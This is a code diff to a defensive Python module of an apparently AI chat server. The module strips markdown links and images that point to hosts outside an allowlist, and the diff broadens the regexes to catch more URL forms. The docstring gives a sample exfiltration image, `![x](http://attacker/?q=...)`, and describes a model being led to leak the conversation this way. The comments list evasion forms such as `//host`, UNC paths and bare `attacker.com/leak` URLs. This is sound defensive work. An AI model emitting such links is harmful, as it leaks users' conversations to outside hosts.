@@ -2,8 +2,10 @@
 model write a link or a markdown image that leaks the conversation to another host when a client
 renders it (`![x](http://attacker/?q=...)`). Before an answer leaves the server, every link and
 image whose host is not in `answer_link_hosts` (https only; none by default) is reduced to its
-text: the checked answer by `neutralize_links`, the streamed raw text by `StreamedLinks` (and the
-web page applies the same rule again as it renders, `server/static/chat.js`)."""
+text, and so is every other form that names another host (`https:host`, `//host`, `\\\\host`,
+a bare `host.com/path`): the checked answer by `neutralize_links`, the streamed raw text by
+`StreamedLinks` (and the web page applies the same rule again as it renders,
+`server/static/chat.js`)."""
 
 from __future__ import annotations
 
@@ -11,19 +13,39 @@ import re
 from collections.abc import Iterable
 from urllib.parse import urlsplit
 
-# [label](target) and ![alt](target), with an optional "title".
+# [label](target) and ![alt](target), with an optional "title". The whitespace runs and the
+# target are possessive (`*+`): a target that never closes (`[a](` and 8000 spaces) fails in
+# one pass instead of trying every split of the spaces (quadratic).
 _LABEL_MAX = 500
 _MARKDOWN_LINK = re.compile(
-    rf"(!?)\[([^\]\n]{{0,{_LABEL_MAX}}})\]\(\s*<?([^\s()<>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)"
+    rf"(!?)\[([^\]\n]{{0,{_LABEL_MAX}}})\]\(\s*+<?([^\s()<>]*+)>?(?:\s++\"[^\"\n]*+\")?\s*+\)"
 )
-# Bare URLs, `www.` hosts, and protocol-relative targets of HTML attributes (src=//host/...).
+# Anything a browser, a URL parser or a markdown autolinker would fetch or link as another
+# host, up to the next space, quote or bracket:
+# - `scheme://` and `scheme:\\` (browsers read a backslash as a slash);
+# - a fetching scheme with no slashes at all (`https:host/x`: browsers add them);
+# - `www.` hosts;
+# - scheme-relative `//host`, UNC `\\host\share` and `/\host` at the start of a word or value;
+# - a bare domain followed by a path, query or port (`attacker.com/leak?q=...`).
+# Each branch starts at a bounded or anchored place, so the scan stays linear.
+_SCHEMES_WITHOUT_SLASHES = "https?|ftps?|wss?|file|data|javascript|vbscript|blob"
 _BARE_URL = re.compile(
-    r"(?:\b[a-z][a-z0-9+.-]*://|\bwww\.|(?<=[=(\"'])//)[^\s<>()\[\]\"']+", re.IGNORECASE
+    r"(?:[a-z][a-z0-9+.-]{0,31}:[/\\]{2}"
+    rf"|(?<![a-z0-9+.-])(?:{_SCHEMES_WITHOUT_SLASHES}):"
+    r"|(?<![a-z0-9])www\."
+    r"|(?<![^\s=(\"'<>\[\]])[/\\]{2}(?=[^\s/\\<>()\[\]\"'])"
+    r"|(?<![a-z0-9.-])(?:[a-z0-9-]{1,63}+\.)++[a-z]{2,63}+(?=/|\?|:\d))"
+    r"[^\s<>()\[\]\"']++",
+    re.IGNORECASE,
 )
 LINK_REMOVED = "[link removed]"
 
 
 def allowed_url(url: str, hosts: Iterable[str]) -> bool:
+    """An https URL to an allowed host, read the way a browser reads it (no backslash or
+    control character, which browsers reinterpret, is accepted)."""
+    if "\\" in url or any(not c.isprintable() or c.isspace() for c in url):
+        return False
     try:
         parts = urlsplit(url)
     except ValueError:
